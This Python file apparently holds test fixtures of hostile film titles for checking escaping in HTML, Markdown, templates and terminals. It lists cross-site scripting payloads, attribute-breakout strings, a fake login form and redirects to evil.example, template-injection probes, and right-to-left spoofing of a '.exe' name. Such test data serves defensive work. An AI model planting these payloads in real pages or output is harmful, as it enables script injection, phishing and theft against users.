"""Titles and ids that a browser, Markdown or a template would take for more than a name. None is anybody's film."""

ALARM = "alert(1)"
HOSTILE = {
    # scripts and events
    "script": f"<script>{ALARM}</script>",
    "script, closed oddly": f"</ScRiPt ><SCRIPT/x>{ALARM}</SCRIPT\t>",
    "image that fails": f'<img src=x onerror="{ALARM}">',
    "image with data": f"<img src=data:, alt=x onerror={ALARM}>",
    "drawing": f"<svg/onload={ALARM}>",
    "script in a drawing": f"<svg><script>{ALARM}</script><animate onbegin={ALARM} attributeName=x dur=1s></svg>",
    "details": f"<details open ontoggle={ALARM}>The Vault</details>",
    "focus": f"<input autofocus onfocus={ALARM}>",
    "hover": f'<b style="position:fixed;inset:0" onmouseover={ALARM}>Everywhere</b>',
    "frame": f'<iframe srcdoc="<script>parent.{ALARM}</script>"></iframe>',
    "object": f'<object data="javascript:{ALARM}"></object><embed src="javascript:{ALARM}">',
    # leaving the place where it stands
    "out of a cell": f"</td></tr></table><h1>Owned</h1><img src=x onerror={ALARM}>",
    "out of an attribute": f"\" onerror={ALARM} x='",
    "out of another attribute": f"' onmouseover='{ALARM}",
    "out of a style": f"</style><script>{ALARM}</script>",
    "comment": "<!-- and the rest of the page",
    "declaration": "<![CDATA[ x ]]> <?php x ?> <!DOCTYPE html>",
    "formula markup": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ALARM}&gt;">'
    ),
    # loading and leading elsewhere
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><link rel=stylesheet href=x.css>',
    "form": '<form action="https://evil.example/"><input name=p><button>Log in</button></form>',
    "style": '<style>@import "https://evil.example/x.css"; * {display: none}</style>',
    "background": "<p style=\"background:u\\72l(https://evil.example/x)\">Wide</p>",
    "link": f'<a href="javascript:{ALARM}">Free film</a>',
    "link in Markdown": f"[Free film](javascript:{ALARM})",
    "link by reference": f"[Free][film]\n\n[film]: javascript:{ALARM}",
    "link in brackets": f"<javascript:{ALARM}> <https://evil.example/>",
    "image in Markdown": "![poster](https://evil.example/x.png)",
    "bare addresses": "See https://evil.example/ or www.evil.example or me@evil.example",
    # Markdown that is none
    "emphasis": "*Sta*r **Wa**rs, _under_ ~~struck~~ and snake_case_title",
    "code": "``Back`tick`` and `one`",
    "bars": "a | b || c \\| d",
    "lines": "One\n\n# Two\n\n- three\n> four\n\n    five\n---",
    "heading": "# Number One",
    "list": "1. The First Purge",
    "dash": "- 30 -",
    "backslashes": "C:\\films\\*new* \\<b\\>",
    "task": "[x] done [ ] not done [^1]",
    "shortcode": "A :smile: film",
    # entities, formulae, templates, terminals
    "entities": "Cats &amp; Dogs &lt;3 &#60;b&#62; &copy &notin;",
    "less": "I <3 Huckabees, 2 < 3 & 4 > 1",
    "formula": "$x^2$ for $5 and $$\\frac{1}{0}$$",
    "command": "\\(\\href{javascript:alert(1)}{x}\\) \\begin{align}a&b\\end{align} $\\KL$",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7 %> %s {0} {title!r}",
    "terminal": "\x1b[31mRed\x1b[0m \x07bell \x08back \x00nul",
    "carriage": "100%|#####| 5/5 [00:01, 3.3it/s]\rover",
    "noise": "0xdeadbeef1234 papermill WARNING:tensorflow",
    # letters
    "turned round": "The \u202egnp.exe\u202c film \u2067and\u2069 \u2069on",
    "never turned back": "\u202e\u2066\u2067 backwards",
    "right to left": "\u05e9\u05dc\u05d5\u05dd (2001)",
    "invisible": "Zero\u200bwidth\ufeff and\u00a0no\u2003break",
    "emoji": "\U0001f3ac\U0001f468\u200d\U0001f469\u200d\U0001f467 Film",
    "many marks": "Z\u0351\u036b\u0343a\u0363\u0366lgo",
}  # fmt: skip
